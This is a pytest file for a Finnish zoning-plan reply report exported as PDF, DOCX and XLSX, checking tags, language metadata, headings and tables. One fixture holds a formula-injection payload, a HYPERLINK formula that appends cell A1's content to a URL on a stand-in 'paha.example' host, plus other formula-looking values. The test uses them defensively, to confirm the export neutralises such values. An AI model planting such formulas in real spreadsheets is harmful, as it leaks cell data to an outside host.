"""The reply report as PDF, DOCX and XLSX, read back."""

from __future__ import annotations

import datetime
import io
import zipfile
from dataclasses import replace

import openpyxl
import pypdf
import pytest
from docx import Document
from docx.oxml.ns import qn

from frontend.documents.reply_report import report_as_docx, report_as_pdf, report_as_xlsx
from zoning.reply_report import ReplyReport, ReportPiece, ReportReply, ReportStatement, ReportTheme

REPLY = ReportReply("Kerroslukua lasketaan.", "Kaavaa muutettiin", "Kortteli 3: VI → IV.", "Kaavoitus")
FORMULA = '=HYPERLINK("https://paha.example/?x="&A1;"Lue lisää")'


def _piece(text: str, reply: ReportReply | None = None, language: str = "fi") -> ReportPiece:
    return ReportPiece("Muistutus 1", language, text, "Korkeus", reply)


def _statement(title: str, **fields: object) -> ReportStatement:
    values = {
        "kind": "Muistutus", "sender": "", "received_on": datetime.date(2026, 11, 5), "is_late": False,
        "is_withdrawn": False, "attachments": 0, "themes": ("Korkeus",), "is_answered": True,
    }  # fmt: skip
    return ReportStatement(title=title, **{**values, **fields})  # type: ignore[arg-type]


@pytest.fixture
def report() -> ReplyReport:
    pieces = (_piece("Liian korkea & ruma <talo>."), _piece("För högt.", language="sv"))
    height = ReportTheme("Korkeus", "Talot ovat liian korkeita.", pieces, REPLY)
    return ReplyReport(
        town="Testilä", plan="Pajakatu", case_number="TliDno-2026-103", identifier="", language="fi",
        hearing="Kaavaehdotus nähtävillä 1.10.2026–30.10.2026", made_on=datetime.date(2026, 11, 20),
        counts=(("Muistutus", 2),),
        statements=(_statement("Muistutus 1"), _statement("Lausunto 2", sender="Museovirasto", is_late=True)),
        themes=(height,),
        without_theme=(_piece(FORMULA, ReportReply("-1 + 2", "Ei", "@SUM(A1)", "")),),
    )  # fmt: skip


def _text(pdf: pypdf.PdfReader) -> str:
    return " ".join(" ".join(page.extract_text().split()) for page in pdf.pages)


def test_the_pdf_is_tagged_has_a_title_and_a_language_and_says_everything(report: ReplyReport) -> None:
    made = pypdf.PdfReader(io.BytesIO(report_as_pdf(report)))
    root = made.trailer["/Root"]
    assert root["/Lang"] == "fi"  # type: ignore[index]
    assert root["/MarkInfo"]["/Marked"]  # type: ignore[index]
    assert root["/StructTreeRoot"]  # type: ignore[index]
    assert b"pdfuaid" in made.xmp_metadata.stream.get_data()  # type: ignore[union-attr]
    assert made.metadata is not None
    assert made.metadata.title == report.title
    told = _text(made)
    for said in ("Korkeus", "Liian korkea & ruma <talo>.", "Kerroslukua lasketaan.", "Kaavaa muutettiin",
                 "Kortteli 3: VI → IV.", "Museovirasto", "TliDno-2026-103", "5.11.2026"):  # fmt: skip
        assert said in told


def _tags(element: object, found: list[str]) -> list[str]:
    if isinstance(element, pypdf.generic.IndirectObject):
        element = element.get_object()
    if isinstance(element, list):
        for each in element:
            _tags(each, found)
    elif isinstance(element, dict):
        found.append(str(element.get("/S", "")))
        _tags(element.get("/K", []), found)
    return found


def test_the_pdf_has_real_headings_and_a_table_with_a_head(report: ReplyReport) -> None:
    made = pypdf.PdfReader(io.BytesIO(report_as_pdf(report)))
    tags = _tags(made.trailer["/Root"]["/StructTreeRoot"], [])  # type: ignore[index]
    assert {"/H1", "/H2", "/H3", "/Table", "/TH"} <= set(tags)


def test_the_word_document_has_real_headings_a_title_and_quotations_in_their_language(report: ReplyReport) -> None:
    made = Document(io.BytesIO(report_as_docx(report)))
    assert (made.core_properties.title, made.core_properties.language) == (report.title, "fi")
    headings = [p.text for p in made.paragraphs if p.style is not None and p.style.name == "Heading 1"]
    assert headings[0] == "Korkeus"
    quoted = {p.text: p.runs[0]._r.get_or_add_rPr().find(qn("w:lang")).get(qn("w:val")) for p in made.paragraphs
              if p.style is not None and p.style.name == "Quote"}  # fmt: skip
    assert quoted["För högt."] == "sv-FI"
    assert quoted["Liian korkea & ruma <talo>."] == "fi-FI"
    rows = [[cell.text for cell in row.cells] for row in made.tables[0].rows]
    assert rows[2][0].startswith("Lausunto 2 (")
    assert rows[2][2] == "Museovirasto"


def test_no_cell_of_the_spreadsheet_is_a_formula(report: ReplyReport) -> None:
    made = report_as_xlsx(report)
    book = openpyxl.load_workbook(io.BytesIO(made))
    cells = {cell.value: cell for sheet in book for row in sheet for cell in row if cell.value is not None}
    assert {cell.data_type for cell in cells.values()} == {"s"}
    for hostile in (FORMULA, "-1 + 2", "@SUM(A1)"):
        assert cells[hostile].quotePrefix
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert not any(b"<f>" in parts.read(name) or b"<f " in parts.read(name) for name in parts.namelist())


def test_the_spreadsheet_has_each_piece_with_the_reply_that_answers_it(report: ReplyReport) -> None:
    book = openpyxl.load_workbook(io.BytesIO(report_as_xlsx(report)))
    rows = list(book.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3
    assert all(len(sheet.title) <= 31 for sheet in book)
    assert rows[0][2:6] == ("Liian korkea & ruma <talo>.", REPLY.text, REPLY.effect, REPLY.change)
    assert (book.properties.title, book.properties.language) == (report.title, "fi")


def test_characters_that_files_cannot_hold_are_left_out(report: ReplyReport) -> None:
    odd = replace(report, without_theme=(_piece("Hyvä\x00\x08\ud800 asia"),))
    assert "Hyvä asia" in " ".join(p.text for p in Document(io.BytesIO(report_as_docx(odd))).paragraphs)
    assert openpyxl.load_workbook(io.BytesIO(report_as_xlsx(odd))).worksheets[0]["C4"].value == "Hyvä asia"


def test_a_report_without_statements_is_still_a_document(report: ReplyReport) -> None:
    empty = replace(report, counts=(), statements=(), themes=(), without_theme=())
    assert _text(pypdf.PdfReader(io.BytesIO(report_as_pdf(empty))))
    assert Document(io.BytesIO(report_as_docx(empty))).paragraphs
    assert report_as_xlsx(empty)
